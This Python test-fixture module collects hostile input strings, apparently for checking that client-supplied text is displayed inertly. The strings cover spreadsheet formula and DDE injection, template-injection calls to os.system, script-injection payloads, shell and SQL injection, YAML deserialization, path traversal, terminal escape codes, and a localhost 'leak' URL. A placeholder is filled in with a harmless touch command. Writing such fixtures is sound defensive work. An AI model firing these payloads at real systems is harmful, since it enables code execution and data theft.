"""Texts that mean harm to whatever reads them as more than text; {touch} is their deed."""

from __future__ import annotations

from pathlib import Path

RIGHT_TO_LEFT = "\u202egnp.ecioVni"
LONG = 10_000_000

# What a client's words may be: printable, so every one of them must be shown as it is.
TEXTS = (
    "=cmd|'/C {touch}'!A0",
    "=1+1",
    "+cmd|'/C {touch}'!A0",
    "-2+3+cmd|'/C {touch}'!A0",
    "@SUM(1+1)*cmd|'/C {touch}'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=DDE("cmd";"/C {touch}";"x")',
    "＝1+1",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('{touch}') }}",
    "{% import os %}{{ os.system('{touch}') }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} {estimate:pp} %(name)s %s%n",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'\"></style></title></textarea><script src=http://127.0.0.1:9/x.js></script>",
    "<svg/onload=fetch('http://127.0.0.1:9/')>",
    "<a href='javascript:alert(1)'>click</a>",
    "<!-- ]]> <![CDATA[ -->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;",
    "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/x.png)",
    "url(http://127.0.0.1:9/x) @import 'http://127.0.0.1:9/x.css'",
    "$(touch {path}) `touch {path}`",
    "; touch {path} #",
    "| touch {path} && touch {path} & touch {path}",
    "%SystemRoot%\\system32\\calc.exe",
    "'; import os; os.system('{touch}') #",
    '"; import os; os.system("{touch}") #',
    "\\'; import os; os.system('{touch}') #",
    '\\"; import os; os.system("{touch}") #',
    "''' + __import__('os').system('{touch}') + '''",
    '""" + __import__("os").system("{touch}") + """',
    "__import__('os').system('{touch}')",
    'f\'{__import__("os").system("{touch}")}\'',
    "!touch {path}",
    "%%bash touch {path}",
    "%run {path}",
    "!!python/object/apply:os.system ['{touch}']",
    "*alias &anchor <<: !tag",
    "'); DROP TABLE scores; ATTACH '{path}' AS x; --",
    "COPY (SELECT 1) TO '{path}'; --",
    "../x",
    "..\\..\\x",
    "/etc/passwd",
    "file:///etc/passwd",
    "CON",
    "~root/$HOME",
    "\\",
    "$\\frac{1}{0}$ $x_{1",
    "\\input{/etc/passwd} \\write18{{touch}}",
    "_x003D_1+1",
    '{"__proto__": {"x": 1}}',
    "NaN",
    "None",
    "🏬 Ünïcödé 海底捞 Łódź Магазин",
    "ال\u0645تجر",
    "x" * 5_000,
)
# What no cell of a table may hold and no terminal may be given.
UNSEEN = (
    "nul\0byte",
    RIGHT_TO_LEFT,
    "\x1b[2J\x1b]0;owned\x07",
    "back\b\b\bspace",
    "\u2066hidden\u2069",
    "bom\ufeff",
    "\x9b31m",
)
# Breaks are text as people type it, but no part of an id.
BREAKS = (
    "first\nimport os; os.system('{touch}')",
    "first\r\n=1+1",
    "\t=1+1",
)


def armed(text: str, sentinel: Path) -> str:
    """A hostile text whose deed would leave `sentinel` behind."""
    return text.replace("{touch}", f"touch {sentinel}").replace("{path}", str(sentinel))
